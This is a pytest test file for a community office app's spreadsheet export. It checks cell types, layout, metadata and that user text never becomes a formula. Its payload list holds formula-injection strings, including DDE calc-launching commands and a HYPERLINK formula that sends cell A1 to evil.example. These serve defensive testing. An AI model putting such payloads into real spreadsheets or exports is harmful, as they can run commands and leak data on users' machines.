"""Workbooks read back: typed cells, nothing that runs, and a second sheet that says what the file is."""

import re
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from desktop.documents import sheet_rows
from desktop.documents.workbook import ABOUT_SHEET, write_workbook
from desktop.models.concern import CONCERN_FIELDS, Priority
from desktop.models.disclosure import Audience, Reason, Withheld
from desktop.models.field import Field, FieldKind
from desktop.models.line import LINE_FIELDS
from desktop.models.meeting import MEETING_FIELDS
from desktop.models.refusal import Refusal
from tests.documents.conftest import MadeExtract, made_about

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "=@SUM(1)",
    "==1",
    "= 1",
    "=",
    "+1",
    "+1+cmd|' /C calc'!A0",
    "+",
    "-1",
    "-2+3",
    "-2+3+cmd|' /C calc'!D2",
    "- a dash before a sentence",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "@resident",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "#NAME?",
    "#lights",
    "TRUE",
    "1/2",
    "10/15/2026",
    "1e5",
    "0001",
    "C26-0142",
    "{=1+1}",
    "＝1+1",
    "＋1",
    "；=1",
    '";=1+1;"',
    "<f>1+1</f>",
    "]]></t></is></c><c><f>1+1</f></c>",
]
WORDS = Field("words", "Words")


def read(path: Path) -> Any:
    return load_workbook(path)


def test_cells_have_the_type_of_their_field(tmp_path: Path, extract: MadeExtract) -> None:
    fields = [
        CONCERN_FIELDS["id"],
        CONCERN_FIELDS["number"],
        CONCERN_FIELDS["heard_on"],
        CONCERN_FIELDS["answered_at"],
        CONCERN_FIELDS["priority"],
        MEETING_FIELDS["starts_at"],
        MEETING_FIELDS["adults"],
        LINE_FIELDS["verbatim"],
        LINE_FIELDS["themes"],
    ]
    answered = datetime(2026, 10, 16, 23, 30, tzinfo=UTC)
    started = datetime(2026, 10, 15, 18, 30)
    row = (2**62 + 1, "C26-0142", date(2026, 10, 15), answered, Priority.HIGH, started, 24, True, "lights\x1fbus")
    write_workbook(extract(fields, [row, (None,) * 9]), tmp_path / "out.xlsx")
    sheet = read(tmp_path / "out.xlsx").worksheets[0]
    cells = sheet[2]
    assert [cell.value for cell in cells] == [
        str(2**62 + 1),
        "C26-0142",
        datetime(2026, 10, 15),
        datetime(2026, 10, 16, 19, 30),
        "High",
        started,
        24,
        "Yes",
        "lights, bus",
    ]
    assert [cell.data_type for cell in cells] == list("ssddsdnss")
    assert cells[2].number_format == "mmm d, yyyy"
    assert cells[3].number_format == "mmm d, yyyy h:mm AM/PM"
    assert sheet.max_row <= 3


def test_the_sheet_is_ready_to_read(tmp_path: Path, extract: MadeExtract) -> None:
    fields = [CONCERN_FIELDS[key] for key in ("id", "number", "words")]
    write_workbook(extract(fields, [(1, "C26-0001", "Dark corner")] * 3), tmp_path / "out.xlsx")
    sheet = read(tmp_path / "out.xlsx")["Concerns"]
    assert [cell.value for cell in sheet[1]] == ["Id", "Number", "Words"]
    assert all(cell.font.bold and cell.alignment.wrap_text and cell.fill.fill_type for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C4"
    assert [sheet.column_dimensions[letter].hidden for letter in "ABC"] == [True, False, False]
    assert sheet.column_dimensions["C"].width == 60
    assert sheet["C2"].alignment.wrap_text


def test_nothing_is_ever_a_formula(tmp_path: Path, extract: MadeExtract) -> None:
    assert_plain_text(tmp_path, extract, PAYLOADS)


def test_naughty_strings_stay_what_they_are(tmp_path: Path, extract: MadeExtract, naughty: list[str]) -> None:
    assert_plain_text(tmp_path, extract, naughty)


def assert_plain_text(tmp_path: Path, extract: MadeExtract, texts: list[str]) -> None:
    long_words = CONCERN_FIELDS["words"]
    found = extract([WORDS, long_words], [(text, text) for text in texts])
    write_workbook(found, tmp_path / "out.xlsx")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name).replace(b"&lt;f&gt;", b""), name
    sheet = read(tmp_path / "out.xlsx").worksheets[0]
    for text, cells in zip(texts, sheet.iter_rows(min_row=2), strict=True):
        carried = sheet_rows.UNWRITABLE.sub("\ufffd", text).replace("\r\n", "\n").replace("\r", "\n")
        for cell in cells:
            assert (cell.value or "") == carried
            assert cell.data_type == "s"
            assert bool(cell.quotePrefix) is text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_second_sheet_says_what_the_file_is(tmp_path: Path, extract: MadeExtract) -> None:
    withheld = Withheld()
    withheld.rows = 2
    withheld.values["Words", Reason.NOTHING_OUTSIDE] = 3
    found = extract(
        [WORDS],
        [("a\x00b\x1f",), ("\r\n",), ("𝄞" * 20_000,), ("x" * 32_767,)],
        withheld=withheld,
        left_out=(CONCERN_FIELDS["contact"],),
        about=made_about(Audience.PARTNER, filter_text="=lamps"),
    )
    write_workbook(found, tmp_path / "out.xlsx")
    book = read(tmp_path / "out.xlsx")
    lines = [(row[0].value, row[1].value) for row in book[ABOUT_SHEET]]
    said = dict(lines)
    assert said["What this is"] == "Concerns of Fernhill community liaison office"
    assert said["Filter"] == "=lamps"
    assert said["Written"] == "October 15, 2026, 8:12 PM (2026-10-15T20:12:00-04:00)"
    assert said["Written by"] == "R. Alvarez"
    assert said["Who may read it"] == "A partner"
    assert said["Rows"] == "4"
    assert said["Withheld"] == "5"
    assert (None, "3 of Words: the speaker asked that nothing leaves the office") in lines
    assert (None, "Columns left out: Contact") in lines
    assert said["Characters replaced"].startswith("2 ")
    assert said["Texts cut"].startswith("1 ")
    assert said["Line ends"]
    assert said["Journal anchor"] == "1284:3f0c9a5be17d42c8"
    assert said["Journal head, complete"] == "3f0c9a5be17d42c8" * 4
    values = [cell.value for cell in book.worksheets[0]["A"]]
    assert values[1] == "a\ufffdb\ufffd"
    assert values[3] == "𝄞" * 16_383 + "…"
    assert values[4] == "x" * 32_767


def test_dates_before_excel_counts_are_text(tmp_path: Path, extract: MadeExtract) -> None:
    days = [date(1, 1, 1), date(1900, 2, 28), date(1900, 3, 1), date(9999, 12, 31)]
    write_workbook(extract([CONCERN_FIELDS["heard_on"]], [(day,) for day in days]), tmp_path / "out.xlsx")
    values = [cell.value for cell in read(tmp_path / "out.xlsx").worksheets[0]["A"][1:]]
    assert values == ["0001-01-01", "1900-02-28", datetime(1900, 3, 1), datetime(9999, 12, 31)]


def test_a_list_longer_than_a_sheet_is_refused_and_the_old_file_stays(
    tmp_path: Path, extract: MadeExtract, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "out.xlsx"
    path.write_text("old")
    monkeypatch.setattr(sheet_rows, "MOST_ROWS", 2)
    write_workbook(extract([WORDS], [("a",)] * 2), tmp_path / "fits.xlsx")
    with pytest.raises(Refusal, match="no more than 2 rows"):
        write_workbook(extract([WORDS], [("a",)] * 3), path)
    assert path.read_text() == "old"
    assert {entry.name for entry in tmp_path.iterdir()} == {"out.xlsx", "fits.xlsx"}


def test_the_file_names_the_office_and_no_program_of_ours(tmp_path: Path, extract: MadeExtract) -> None:
    write_workbook(extract([WORDS], [("a",)], title="What: is/this*?"), tmp_path / "out.xlsx")
    book = read(tmp_path / "out.xlsx")
    assert book.properties.creator == "Fernhill community liaison office"
    assert book.properties.title == "What: is/this*?"
    assert book.sheetnames[0] == "What  is this"


def test_a_list_without_columns_or_rows_can_be_opened(tmp_path: Path, extract: MadeExtract) -> None:
    write_workbook(extract([], [()] * 2), tmp_path / "bare.xlsx")
    write_workbook(extract([WORDS], []), tmp_path / "empty.xlsx")
    assert read(tmp_path / "bare.xlsx").sheetnames == ["Concerns", ABOUT_SHEET]
    assert [cell.value for cell in read(tmp_path / "empty.xlsx").worksheets[0]["A"]] == ["Words"]


def test_repeated_names_are_counted_each_time_they_are_mended(tmp_path: Path, extract: MadeExtract) -> None:
    field = Field("area", "Area", FieldKind.REFERENCE)
    write_workbook(extract([field], [("Bell\x07 St",)] * 3), tmp_path / "out.xlsx")
    said = {row[0].value: row[1].value for row in read(tmp_path / "out.xlsx")[ABOUT_SHEET]}
    assert re.match("3 ", said["Characters replaced"])
